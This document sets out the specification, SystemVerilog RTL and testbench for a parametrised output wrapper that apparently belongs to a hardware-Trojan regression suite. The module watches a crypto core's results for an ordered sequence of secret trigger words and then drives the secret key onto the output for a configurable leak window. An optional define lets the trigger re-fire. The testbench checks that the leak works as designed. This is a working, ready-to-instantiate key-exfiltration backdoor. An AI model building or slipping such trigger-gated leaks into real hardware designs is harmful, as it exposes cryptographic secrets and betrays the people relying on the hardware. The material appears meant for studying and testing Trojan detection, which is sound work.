seq_trig_wrap: RTL and testbench
================================

# seq_trig_wrap

Parametrised output-register wrapper with a multi-stage sequential trigger, placed between a crypto core's result port and the top-level output. It is used in the hardware-Trojan regression suite. Each valid core result is registered to `out`. An ordered sequence of NSEQ trigger patterns, each matched within a bounded cycle gap, arms a leak window. During that window the key is driven on `out` instead of the core result. This block generalises the single-pattern, sticky-trigger wrapper to configurable width, sequence depth, gap timeout and leak duration.

## Interface
- W, 128: datapath width of key, core result and output.
- NSEQ, 4: number of patterns in the trigger sequence (≥1).
- TRIG_SEQ, {NSEQ{W'h0}}: packed patterns; pattern[i] = TRIG_SEQ[i*W +: W]; pattern[0] is matched first.
- GAP_MAX, 16: maximum cycles allowed after a match before the next match is required (≥1).
- LEAK_CYCLES, 8: length of the leak window in cycles; 0 = leak until reset.
- clk  in  1  clock, rising edge.
- rst  in  1  reset, asynchronous, active-high.
- key  in  W  secret key, sampled every cycle.
- core_out  in  W  core result word.
- core_valid  in  1  core_out is valid this cycle.
- out  out  W  registered result (or key during leak).
- out_valid  out  1  registered core_valid.
- trig_active  out  1  high while the state is LEAK.

## Operation
- Match definition: match = core_valid && core_out == pattern[idx].
- The idx counter has width clog2(NSEQ)+1. The gap counter has width clog2(GAP_MAX+1). The leak counter has width clog2(LEAK_CYCLES+1).
- IDLE (idx=0):
  - A match sets idx=1 and clears gap.
  - If NSEQ=1, a match goes directly to LEAK.
- ARMED (0<idx<NSEQ):
  - gap increments every cycle.
  - A match on pattern[idx] increments idx and clears gap. When idx reaches NSEQ, go to LEAK.
  - A valid non-matching word resets idx to 0. If that word equals pattern[0], idx becomes 1 instead.
  - If gap reaches GAP_MAX with no match, idx returns to 0 (IDLE).
  - If a match and gap expiry occur in the same cycle, the match wins.
- LEAK:
  - The leak counter counts cycles; core data is ignored for trigger purposes.
  - After LEAK_CYCLES cycles, go to DONE (or IDLE, see Configuration).
  - If LEAK_CYCLES=0, the block stays in LEAK until reset.
- DONE: terminal state. No further matching or leaking occurs; `out` passes core data.
- Output register: on each clk edge, out_valid <= core_valid. If core_valid, out <= (state==LEAK) ? key : core_out; otherwise out holds its value.
- Reset: out=0, out_valid=0, trig_active=0, state IDLE, and all counters 0. Asserting reset mid-sequence or mid-leak aborts immediately and asynchronously.

## Timing
- Passthrough latency is 1 cycle: a core_out presented in cycle t appears on `out` in cycle t+1.
- When the final pattern matches in cycle t:
  - That word passes through normally to `out` at t+1.
  - trig_active=1 from cycle t+1 through t+LEAK_CYCLES.
  - Valid words in cycles t+1 .. t+LEAK_CYCLES produce `out`=key one cycle later.
- Gap timing: after a match in cycle t, the next pattern must match by cycle t+GAP_MAX, inclusive. At t+GAP_MAX+1 the sequence has already reset.
- Cycles with core_valid=0 do not reset idx; they only advance gap.

## Configuration
- SEQ_TRIG_REARM_EN:
  - Defined: at the end of the leak window, LEAK returns to IDLE, and the trigger can fire again.
  - Undefined: LEAK goes to DONE. The trigger fires at most once per reset.

## Test plan
All scenarios use W=128, NSEQ=2, P0=128'h6939b2e898f969350967325782ecc94e, P1=128'h00112233445566778899aabbccddeeff, GAP_MAX=4, LEAK_CYCLES=3, key=128'hA5A5…A5.
- Reset then random core words, core_valid=1 → out equals the previous cycle's core_out; trig_active=0; out=0 and out_valid=0 while rst=1.
- P0 at cycle 10, P1 at cycle 12 → trig_active high in cycles 13–15; out=key in cycles 14–16; out=core_out again from cycle 17.
- P0 at cycle 10, P1 at cycle 15 (gap 5 > 4) → no trigger; out is never equal to key.
- P0, then a non-matching word, then P1 → no trigger. P0, P0, P1 on consecutive cycles → trigger, because the second P0 re-arms the sequence.
- Assert rst in cycle 14 during the leak → out=0 and trig_active=0 immediately; the following P0, P1 sequence triggers again.
- With SEQ_TRIG_REARM_EN undefined, a second P0, P1 sequence after the first leak → no leak. With it defined → a second 3-cycle leak occurs.

Source files
------------

// File: rtl/seq_trig_wrap.sv
// Output-register wrapper with an ordered multi-pattern trigger that arms a key-leak window; 1-cycle passthrough, no backpressure.
// Optional feature: SEQ_TRIG_REARM_EN lets the trigger re-fire after each leak window instead of going terminal.
module seq_trig_wrap #(
  parameter int                W           = 128,
  parameter int                NSEQ        = 4,
  parameter logic [NSEQ*W-1:0] TRIG_SEQ    = '0,
  parameter int                GAP_MAX     = 16,
  parameter int                LEAK_CYCLES = 8
) (
  input  logic         clk,
  input  logic         rst,
  input  logic [W-1:0] key,
  input  logic [W-1:0] core_out,
  input  logic         core_valid,
  output logic [W-1:0] out,
  output logic         out_valid,
  output logic         trig_active
);

  localparam int IDX_W     = $clog2(NSEQ) + 1;
  localparam int GAP_W     = $clog2(GAP_MAX + 1);
  localparam int LEAK_W    = (LEAK_CYCLES < 1) ? 1 : $clog2(LEAK_CYCLES + 1);
  localparam int LEAK_LAST = (LEAK_CYCLES < 1) ? 0 : LEAK_CYCLES - 1;
  localparam int GAP_LAST  = GAP_MAX - 1;

  typedef enum logic [1:0] {S_IDLE, S_ARMED, S_LEAK, S_DONE} state_t;

  state_t              state_q, state_d;
  logic [IDX_W-1:0]    idx_q, idx_d;
  logic [GAP_W-1:0]    gap_q, gap_d;
  logic [LEAK_W-1:0]   leak_q, leak_d;
  logic [W-1:0]        out_q, out_d;
  logic                out_valid_q, out_valid_d;

  logic [W-1:0]        pat_cur;
  logic                match;
  logic                rearm_hit;
  logic                idx_last;

  always_comb begin
    pat_cur = '0;
    for (int i = 0; i < NSEQ; i++) begin
      if (idx_q == IDX_W'(i)) pat_cur = TRIG_SEQ[i*W +: W];
    end
  end

  assign match     = core_valid && (core_out == pat_cur);
  assign rearm_hit = core_valid && (core_out == TRIG_SEQ[W-1:0]);
  assign idx_last  = (idx_q == IDX_W'(NSEQ - 1));

  always_comb begin
    state_d = state_q;
    idx_d   = idx_q;
    gap_d   = gap_q;
    leak_d  = leak_q;
    case (state_q)
      S_IDLE, S_ARMED: begin
        // A match takes priority over gap expiry in the same cycle.
        if (match) begin
          gap_d = '0;
          if (idx_last) begin
            state_d = S_LEAK;
            idx_d   = IDX_W'(NSEQ);
            leak_d  = '0;
          end else begin
            state_d = S_ARMED;
            idx_d   = idx_q + IDX_W'(1);
          end
        end else if (state_q == S_ARMED) begin
          if (rearm_hit) begin
            idx_d = IDX_W'(1);
            gap_d = '0;
          end else if (core_valid || gap_q == GAP_W'(GAP_LAST)) begin
            state_d = S_IDLE;
            idx_d   = '0;
            gap_d   = '0;
          end else begin
            gap_d = gap_q + GAP_W'(1);
          end
        end
      end
      S_LEAK: begin
        // LEAK_CYCLES of zero holds the leak until reset.
        if (LEAK_CYCLES != 0) begin
          if (leak_q == LEAK_W'(LEAK_LAST)) begin
`ifdef SEQ_TRIG_REARM_EN
            state_d = S_IDLE;
`else
            state_d = S_DONE;
`endif
            idx_d  = '0;
            leak_d = '0;
          end else begin
            leak_d = leak_q + LEAK_W'(1);
          end
        end
      end
      S_DONE: begin
        state_d = S_DONE;
      end
      default: begin
        state_d = S_IDLE;
        idx_d   = '0;
        gap_d   = '0;
        leak_d  = '0;
      end
    endcase
  end

  always_comb begin
    out_valid_d = core_valid;
    out_d       = out_q;
    if (core_valid) out_d = (state_q == S_LEAK) ? key : core_out;
  end

  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      state_q     <= S_IDLE;
      idx_q       <= '0;
      gap_q       <= '0;
      leak_q      <= '0;
      out_q       <= '0;
      out_valid_q <= 1'b0;
    end else begin
      state_q     <= state_d;
      idx_q       <= idx_d;
      gap_q       <= gap_d;
      leak_q      <= leak_d;
      out_q       <= out_d;
      out_valid_q <= out_valid_d;
    end
  end

  assign out         = out_q;
  assign out_valid   = out_valid_q;
  assign trig_active = (state_q == S_LEAK);

endmodule

// File: tb/tb_seq_trig_wrap.sv
// Bench for seq_trig_wrap: directed trigger scenarios plus random traffic against a timestamp-based model.
module tb_seq_trig_wrap;
  localparam int         W    = 128;
  localparam int         NSEQ = 2;
  localparam int         GAP  = 4;
  localparam int         LEAK = 3;
  localparam logic [W-1:0] P0   = 128'h6939b2e898f969350967325782ecc94e;
  localparam logic [W-1:0] P1   = 128'h00112233445566778899aabbccddeeff;
  localparam logic [W-1:0] KEYC = {16{8'hA5}};
`ifdef SEQ_TRIG_REARM_EN
  localparam bit REARM = 1'b1;
`else
  localparam bit REARM = 1'b0;
`endif

  logic         clk = 1'b0;
  logic         rst = 1'b1;
  logic [W-1:0] key = KEYC;
  logic [W-1:0] core_out = '0;
  logic         core_valid = 1'b0;
  logic [W-1:0] out;
  logic         out_valid;
  logic         trig_active;

  seq_trig_wrap #(
    .W(W), .NSEQ(NSEQ), .TRIG_SEQ({P1, P0}), .GAP_MAX(GAP), .LEAK_CYCLES(LEAK)
  ) dut (
    .clk(clk), .rst(rst), .key(key), .core_out(core_out), .core_valid(core_valid),
    .out(out), .out_valid(out_valid), .trig_active(trig_active)
  );

  always #5 clk = ~clk;

  int checks = 0;
  int failures = 0;

  task automatic chk(input string tag, input logic [W-1:0] got, input logic [W-1:0] exp);
    checks++;
    if (got !== exp) begin
      failures++;
      $display("FAIL %s got=%h exp=%h @%0t", tag, got, exp, $time);
    end
  endtask

  // Model: progress through the sequence, timestamp of the last match, leak window end.
  logic [W-1:0] pat [NSEQ];
  int           cyc, prog, last_m, win_end;
  bit           win, done_m;
  logic [W-1:0] exp_out;
  bit           exp_vld;

  task automatic model_clear();
    cyc = 0; prog = 0; last_m = 0; win_end = 0;
    win = 0; done_m = 0; exp_out = '0; exp_vld = 0;
  endtask

  task automatic step(input bit v, input logic [W-1:0] w);
    bit lk;
    if (win && cyc > win_end) begin
      win = 0;
      if (!REARM) done_m = 1;
    end
    lk = win;
    chk("out", out, exp_out);
    chk("out_valid", W'(out_valid), W'(exp_vld));
    chk("trig_active", W'(trig_active), W'(lk));
    if (!lk && !done_m) begin
      if (prog > 0 && cyc > last_m + GAP) prog = 0;
      if (v) begin
        if (w == pat[prog]) begin
          prog++;
          last_m = cyc;
          if (prog == NSEQ) begin
            prog = 0;
            win = 1;
            win_end = cyc + LEAK;
          end
        end else if (w == pat[0]) begin
          prog = 1;
          last_m = cyc;
        end else begin
          prog = 0;
        end
      end
    end
    if (v) exp_out = lk ? key : w;
    exp_vld = v;
    core_valid = v;
    core_out = w;
    cyc++;
    @(negedge clk);
  endtask

  function automatic logic [W-1:0] rnd128();
    return {$urandom, $urandom, $urandom, $urandom};
  endfunction

  task automatic apply_reset();
    rst = 1'b1;
    core_valid = 1'b0;
    #1;
    chk("rst_out", out, '0);
    chk("rst_out_valid", W'(out_valid), '0);
    chk("rst_trig", W'(trig_active), '0);
    model_clear();
    @(negedge clk);
    chk("rst_hold_out", out, '0);
    chk("rst_hold_vld", W'(out_valid), '0);
    @(negedge clk);
    rst = 1'b0;
  endtask

  task automatic idle(input int n);
    for (int i = 0; i < n; i++) step(1'b0, rnd128());
  endtask

  task automatic noise(input int n);
    for (int i = 0; i < n; i++) step(1'b1, rnd128());
  endtask

  initial begin
    pat[0] = P0;
    pat[1] = P1;
    model_clear();
    @(negedge clk);
    apply_reset();

    // Passthrough
    noise(12);

    // Two-cycle spacing triggers a leak
    apply_reset();
    noise(3); step(1, P0); idle(1); step(1, P1); noise(8);

    // Gap of exactly GAP triggers; GAP+1 does not
    apply_reset();
    step(1, P0); idle(GAP - 1); step(1, P1); noise(6);
    apply_reset();
    step(1, P0); idle(GAP); step(1, P1); noise(6);

    // Interrupting word kills the sequence; repeated P0 re-arms it
    apply_reset();
    step(1, P0); step(1, rnd128()); step(1, P1); noise(4);
    apply_reset();
    step(1, P0); step(1, P0); step(1, P1); noise(6);

    // Reset in the middle of a leak, then trigger again
    apply_reset();
    step(1, P0); step(1, P1); noise(2);
    apply_reset();
    step(1, P0); idle(1); step(1, P1); noise(6);

    // Second sequence after the leak window
    apply_reset();
    step(1, P0); step(1, P1); noise(6);
    step(1, P0); step(1, P1); noise(6);

    // Random traffic biased towards the trigger patterns
    apply_reset();
    for (int i = 0; i < 1500; i++) begin
      int sel;
      logic [W-1:0] w;
      sel = $urandom_range(0, 9);
      w = (sel < 3) ? P0 : (sel < 6) ? P1 : rnd128();
      if ($urandom_range(0, 15) == 0) key = rnd128();
      if ($urandom_range(0, 199) == 0) apply_reset();
      else step($urandom_range(0, 3) != 0, w);
    end

    $display("TB_RESULT checks=%0d failures=%0d", checks, failures);
    $finish;
  end
endmodule
